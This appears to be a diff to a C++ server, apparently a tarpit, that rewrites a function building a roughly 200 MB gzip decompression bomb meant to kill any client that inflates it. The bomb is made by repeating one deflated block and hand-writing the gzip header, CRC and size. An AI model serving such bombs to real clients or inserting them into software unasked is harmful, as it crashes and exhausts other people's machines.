@@ -21,28 +21,47 @@ constexpr std::size_t piece_bytes = std::size_t{256} * 1024;
 constexpr int endless_pieces = 60'000;
 constexpr std::chrono::milliseconds endless_pause{10};
 
-/// 200 MB of blanks behind gzip: small, and a client that inflates it all is dead.
+/// `bytes` packed as one or more complete blocks of a deflate stream that others may follow.
+std::string packed_blocks(std::string bytes) {
+    z_stream stream{};
+    constexpr int raw_window = -15;
+    std::string out(bytes.size(), '\0');
+    if (deflateInit2(&stream, 9, Z_DEFLATED, raw_window, 9, Z_DEFAULT_STRATEGY) != Z_OK) {
+        return {};
+    }
+    stream.next_in = reinterpret_cast<Bytef*>(bytes.data());
+    stream.avail_in = static_cast<uInt>(bytes.size());
+    stream.next_out = reinterpret_cast<Bytef*>(out.data());
+    stream.avail_out = static_cast<uInt>(out.size());
+    deflate(&stream, Z_FULL_FLUSH);
+    out.resize(out.size() - stream.avail_out);
+    deflateEnd(&stream);
+    return out;
+}
+
+void append_le32(std::string& out, std::uint64_t value) {
+    for (unsigned shift = 0; shift < 32; shift += 8) {
+        out += static_cast<char>(value >> shift & 0xffU);
+    }
+}
+
+/// 200 MB of blanks behind gzip (RFC 1952): small, and a client that inflates it all is dead. One
+/// packed piece is repeated, so that making it costs nothing.
 const std::string& bomb() {
     static const std::string bytes = [] {
-        std::string packed;
-        std::string blank(piece_bytes, ' ');
-        std::string out(piece_bytes, '\0');
-        z_stream stream{};
-        constexpr int gzip_window = 15 + 16;
-        if (deflateInit2(&stream, 9, Z_DEFLATED, gzip_window, 9, Z_DEFAULT_STRATEGY) != Z_OK) {
-            return packed;
+        const std::string piece(piece_bytes, ' ');
+        const std::string blocks = packed_blocks(piece);
+        const uLong piece_sum =
+            crc32(0, reinterpret_cast<const Bytef*>(piece.data()), static_cast<uInt>(piece_bytes));
+        std::string packed{"\x1f\x8b\x08\0\0\0\0\0\x02\x03", 10};
+        uLong sum = 0;
+        for (std::size_t done = 0; done < huge_bytes; done += piece_bytes) {
+            packed += blocks;
+            sum = crc32_combine(sum, piece_sum, static_cast<z_off_t>(piece_bytes));
         }
-        for (std::size_t done = 0; done <= huge_bytes; done += piece_bytes) {
-            stream.next_in = reinterpret_cast<Bytef*>(blank.data());
-            stream.avail_in = done < huge_bytes ? static_cast<uInt>(piece_bytes) : 0;
-            do {
-                stream.next_out = reinterpret_cast<Bytef*>(out.data());
-                stream.avail_out = static_cast<uInt>(piece_bytes);
-                deflate(&stream, done < huge_bytes ? Z_NO_FLUSH : Z_FINISH);
-                packed.append(out, 0, piece_bytes - stream.avail_out);
-            } while (stream.avail_out == 0);
-        }
-        deflateEnd(&stream);
+        packed.append("\x03\0", 2);  // the last block, empty
+        append_le32(packed, sum);
+        append_le32(packed, huge_bytes);
         return packed;
     }();
     return bytes;
